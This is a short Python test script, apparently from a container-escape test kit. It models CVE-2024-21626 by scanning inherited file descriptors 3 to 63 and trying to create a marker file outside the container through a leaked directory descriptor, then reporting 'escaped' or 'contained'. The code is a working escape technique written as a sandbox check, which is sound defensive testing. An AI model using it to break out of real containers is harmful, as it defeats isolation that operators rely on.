#!/usr/bin/python3
# Goal:    create a file outside through an O_PATH directory fd leaked by the caller
# Models:  CVE-2024-21626, O_PATH variant
# Oracle:  marker
# Tier:    core
# Needs:   -
# Fixture: leak-opath
from ctk import *

for fd in range(3, 64):
    try:
        if stat.S_ISDIR(os.fstat(fd).st_mode):
            w = os.open("m-" + NONCE, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd)
            os.write(w, NONCE.encode())
            escaped("leaked O_PATH fd %d" % fd)
    except OSError:
        pass
contained("no usable directory fd")
